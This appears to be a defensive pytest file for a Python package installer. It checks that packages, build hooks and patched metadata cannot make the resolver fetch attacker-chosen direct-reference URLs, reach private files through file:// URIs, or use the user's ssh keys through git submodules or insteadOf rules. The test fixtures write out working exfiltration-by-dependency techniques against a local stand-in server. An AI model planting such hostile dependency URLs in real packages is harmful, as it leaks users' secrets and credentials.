"""Direct references, "name @ url": no build may choose what the resolver fetches, outside of it."""

import subprocess
from pathlib import Path
from typing import Callable, Iterator, List

import pytest

from fixtures import samples
from fixtures.index import Server
from fixtures.runner import Truewheel
from fixtures.sdist import Sdist, write_all, write_requirements
from fixtures.wheels import Wheel

SECRET = "geheim"
Way = Callable[[Server, Path], str]


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    """Has an honest evil-lib at /SECRET/, so that whoever may fetch it gets it."""
    served = tmp_path / "served"
    Sdist("evil-lib").write(served / SECRET)
    with Server(served) as server:
        yield server


def leak(server: Server, prefix: str = "") -> str:
    return f"evil-lib @ {prefix}{server.url}{SECRET}/evil_lib-1.0.tar.gz"


# What a hostile source does to send something out. Each returns what is to be built.


def hook(server: Server, links: Path) -> str:
    Sdist("leaky-one", dynamic_requires=[leak(server)]).write(links)
    return "leaky-one"


def hook_with_git(server: Server, links: Path) -> str:
    Sdist("leaky-one", dynamic_requires=[leak(server, "git+")]).write(links)
    return "leaky-one"


def hook_of_a_dependency(server: Server, links: Path) -> str:
    hook(server, links)
    Sdist("user-one", requires=["leaky-one"]).write(links)
    return "user-one"


def hook_of_a_build_requirement(server: Server, links: Path) -> str:
    hook(server, links)
    Sdist("user-one", build_requires=["leaky-one"]).write(links)
    return "user-one"


def metadata_backend(*requires: str) -> str:
    lines = "".join(f"Requires-Dist: {text}\n" for text in requires)
    return f"""
import tinybackend
said = tinybackend.metadata
tinybackend.metadata = lambda: said() + {lines!r}
"""


def metadata(server: Server, links: Path) -> str:
    Sdist("leaky-one", backend=metadata_backend(leak(server))).write(links)
    return "leaky-one"


def metadata_of_the_wheel(server: Server, links: Path) -> str:
    backend = metadata_backend(leak(server)) + "del prepare_metadata_for_build_wheel\n"
    Sdist("leaky-one", backend=backend).write(links)
    return "leaky-one"


def metadata_of_an_extra(server: Server, links: Path) -> str:
    backend = metadata_backend(f"{leak(server)} ; extra == 'more'")
    Sdist("leaky-one", extras={"more": []}, backend=backend).write(links)
    return "leaky-one[more]"


def metadata_of_a_build_requirement(server: Server, links: Path) -> str:
    metadata(server, links)
    Sdist("user-one", build_requires=["leaky-one"]).write(links)
    return "user-one"


def choice_of_what_is_published(server: Server, links: Path) -> str:
    """One of two URLs is a bit."""
    published = [f"{leak(server)}0", leak(server)]
    backend = """
import tinybackend
said = tinybackend.metadata
tinybackend.metadata = lambda: "".join(
    line for line in said().splitlines(True) if not line.endswith(".gz0\\n"))
"""
    Sdist("leaky-one", requires=published, backend=backend).write(links)
    return "leaky-one"


def choice_of_what_another_one_has_published(server: Server, links: Path) -> str:
    """An accomplice lists the URLs, for a marker that never holds."""
    Wheel("helper-one", requires=[f"{leak(server)} ; python_version < '3'"]).write(links)
    backend = metadata_backend(leak(server))
    Sdist("leaky-one", requires=["helper-one"], backend=backend).write(links)
    return "leaky-one"


def local_project_with_a_hostile_build_requirement(server: Server, links: Path) -> str:
    """The user's own project, whose backend is somebody else's."""
    tree = Sdist("own-one", dynamic_requires=[leak(server)]).write_tree(links.parent / "own")
    return str(tree)


def local_project_with_hostile_metadata(server: Server, links: Path) -> str:
    backend = metadata_backend(leak(server))
    return str(Sdist("own-one", backend=backend).write_tree(links.parent / "own"))


WAYS = [
    hook, hook_with_git, hook_of_a_dependency, hook_of_a_build_requirement, metadata,
    metadata_of_the_wheel, metadata_of_an_extra, metadata_of_a_build_requirement,
    choice_of_what_is_published, choice_of_what_another_one_has_published,
    local_project_with_a_hostile_build_requirement,
    local_project_with_hostile_metadata,
]  # fmt: skip


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
def test_a_build_sends_nothing_out(
    in_mode: Truewheel, links: Path, server: Server, way: Way
) -> None:
    wanted = way(server, links)
    result = in_mode.wheel(wanted, code=1)
    assert server.seen == [] and not result.names
    assert "--allow-url evil-lib takes it from there" in result.err, result.text


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
def test_the_user_may_allow_it(
    truewheel: Truewheel, links: Path, server: Server, way: Way
) -> None:
    """The control: it is only refused, and would have sent the secret."""
    wanted = way(server, links)
    result = truewheel.wheel("--allow-url", "Evil.Lib", wanted, code=None)
    assert any(SECRET in path for path in server.seen), result.text
    assert result.code == 0 or "git" in way.__name__
    assert "--allow-url Evil.Lib: " not in result.err


def test_allowed_without_effect(truewheel: Truewheel, links: Path) -> None:
    samples.pure().write(links)
    result = truewheel.wheel("--allow-url", "evil-lib", "pure-one")
    assert "--allow-url evil-lib: no URL of it was asked for that needs it" in result.err


# What may be followed.


def test_what_the_user_wrote(truewheel: Truewheel, links: Path, server: Server) -> None:
    Sdist("user-one", requires=["evil-lib"]).write(links)
    constraint = write_requirements(truewheel.world.cwd / "c.txt", leak(server))
    ways: List[List[object]] = [
        [leak(server)], ["-r", constraint], ["-c", constraint, "user-one"],
    ]  # fmt: skip
    for number, arguments in enumerate(ways):
        out = truewheel.world.base / str(number)
        result = truewheel.wheel(*arguments, wheels=out)
        assert "evil_lib-1.0-py3-none-any.whl" in result.names


def test_what_was_published(truewheel: Truewheel, links: Path, server: Server) -> None:
    """In pyproject.toml, in PKG-INFO (with and without the promise of PEP 643), in a wheel."""
    write_all(
        links,
        Sdist("asks-one", build_requires=[leak(server)], dynamic_requires=[leak(server)]),
        Sdist("needs-one", requires=[leak(server)]),
        Sdist("needs-two", requires=[leak(server)], metadata_version="2.2"),
    )
    Wheel("needs-three", requires=[leak(server)]).write(links)
    for name in ("asks-one", "needs-one", "needs-two", "needs-three"):
        result = truewheel.wheel(name, wheels=truewheel.world.base / name)
        assert result.names, name
    assert len(server.seen) >= 4


@pytest.mark.parametrize("file", ["setup.py", "setup.cfg", "pyproject.toml"])
def test_what_a_local_project_has_in_its_files(
    truewheel: Truewheel, links: Path, server: Server, file: str
) -> None:
    """Its metadata comes out of a build, but the URL does not."""
    wanted = leak(server)
    texts = {
        "setup.py": f"setup(install_requires=['{wanted}'])\n",
        "setup.cfg": f"[options]\ninstall_requires =\n    {wanted.replace(' ', '')}\n",
        "pyproject.toml": f"[project]\nname = 'own-one'\nversion = '1.0'\n"
        f"dependencies = ['{wanted}']\n",
    }
    sdist = Sdist("own-one", backend=metadata_backend(wanted))
    tree = sdist.write_tree(links.parent / "own")
    (tree / file).write_text(texts[file] + ((tree / file).read_text() if (tree / file).exists()
                                            else ""))  # fmt: skip
    result = truewheel.wheel(tree)  # the control: test_a_build_sends_nothing_out
    assert result.names == ["evil_lib-1.0-py3-none-any.whl", "own_one-1.0-py3-none-any.whl"]


@pytest.mark.parametrize("scheme", ["file", "FILE", "git+file"])
@pytest.mark.parametrize("by", ["wheel", "sdist", "static sdist", "build"])
def test_no_file_of_this_machine(
    truewheel: Truewheel, links: Path, by: str, scheme: str
) -> None:
    """Published or not, allowed or not: what an index has must not take the user's files."""
    private = Sdist("private-one").write_tree(truewheel.world.home / "private")
    wanted = f"private-one @ {private.as_uri().replace('file', scheme, 1)}"
    if by == "wheel":
        Wheel("needs-one", requires=[wanted]).write(links)
    elif by == "build":
        Sdist("needs-one", backend=metadata_backend(wanted)).write(links)
    else:
        version = "2.2" if by == "static sdist" else "2.1"
        Sdist("needs-one", requires=[wanted], metadata_version=version).write(links)
    result = truewheel.wheel("--allow-url", "private-one", "needs-one", code=1)
    assert "is a file of this machine" in result.errors[0] and not result.names


def test_no_file_of_this_machine_from_a_server(
    truewheel: Truewheel, tmp_path: Path, server: Server
) -> None:
    private = Sdist("private-one").write(truewheel.world.home / "private")
    page = tmp_path / "served" / "simple" / "private-one" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(f"<html><body><a href='{private.as_uri()}'>{private.name}</a></body></html>")
    out = truewheel.world.base / "out"
    arguments = ["wheel", "-w", out, "private-one", "-i"]
    result = truewheel(*arguments, f"{server.url}simple/", code=1)
    assert f"simple/private-one/ offers '{private.as_uri()}', a file of" in result.errors[0]
    simple = (tmp_path / "served" / "simple").as_uri()  # the control: an index that is a directory
    assert truewheel(*arguments, f"{simple}/", wheels=out).names


# The user's keys.


@pytest.fixture
def ssh(truewheel: Truewheel, tmp_path: Path) -> Path:
    """An ssh that notes that it was called, and fails; the note."""
    note, program = tmp_path / "called", tmp_path / "bin" / "ssh"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\necho "$@" >> {note}\nexit 1\n')
    program.chmod(0o755)
    return note


def with_ssh(note: Path) -> List[str]:
    return ["sh", "-c", f'PATH={note.parent}/bin:$PATH; export PATH; exec "$@"', "sh"]


KEYS = "lib-one @ git+ssh://git@host.invalid/lib"


@pytest.mark.parametrize("by", ["requires", "build_requires", "dynamic_requires"])
def test_the_users_keys_are_for_what_the_user_wrote(
    truewheel: Truewheel, links: Path, ssh: Path, by: str
) -> None:
    Sdist("user-one", **{by: [KEYS]}).write(links)  # type: ignore[arg-type]
    result = truewheel.wheel("user-one", code=1, prefix=with_ssh(ssh))
    assert not ssh.exists()
    assert "--allow-url lib-one takes it from there" in result.err
    truewheel.wheel("--allow-url", "lib-one", "user-one", code=1, prefix=with_ssh(ssh))
    assert "host.invalid" in ssh.read_text()


@pytest.mark.parametrize("how", ["argument", "requires", "build_requires"])
def test_the_users_own_projects_have_the_keys(
    truewheel: Truewheel, links: Path, ssh: Path, how: str
) -> None:
    wanted = KEYS
    if how != "argument":
        own = Sdist("own-one", **{how: [KEYS]})  # type: ignore[arg-type]
        wanted = str(own.write_tree(links.parent / "own"))
    truewheel.wheel(wanted, code=1, prefix=with_ssh(ssh))
    assert "host.invalid" in ssh.read_text()


def git(directory: Path, *arguments: str) -> None:
    me = ["-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run(["git", "-C", str(directory), *me, *arguments], check=True)


@pytest.mark.parametrize("keys", ["submodule", "insteadOf"])
def test_a_published_repository_does_not_get_the_keys(
    truewheel: Truewheel, links: Path, ssh: Path, server: Server, tmp_path: Path, keys: str
) -> None:
    """Neither for its submodules nor because the user's git goes to its host by ssh."""
    tree = Sdist("lib-one").write_tree(tmp_path / "lib")
    git(tree, "init", "-q", "-b", "main")
    git(tree, "add", "-A")
    if keys == "submodule":
        (tree / ".gitmodules").write_text(
            '[submodule "x"]\n\tpath = x\n\turl = ssh://git@host.invalid/private\n')
        git(tree, "add", ".gitmodules")
        git(tree, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},x")
    git(tree, "commit", "-q", "-m", "one")
    bare = tmp_path / "served" / "lib.git"
    git(tmp_path, "clone", "-q", "--bare", str(tree), str(bare))
    git(bare, "update-server-info")
    wanted = f"lib-one @ git+{server.url}lib.git"
    if keys == "insteadOf":
        (truewheel.world.home / ".gitconfig").write_text(
            f'[url "ssh://git@host.invalid/"]\n\tinsteadOf = {server.url}\n')
    Sdist("user-one", requires=[wanted]).write(links)
    result = truewheel.wheel("user-one", code=1, prefix=with_ssh(ssh))
    assert not ssh.exists() and "transport 'ssh' not allowed" in result.err, result.text
    truewheel.wheel(wanted, code=1, prefix=with_ssh(ssh))
    assert "host.invalid" in ssh.read_text()
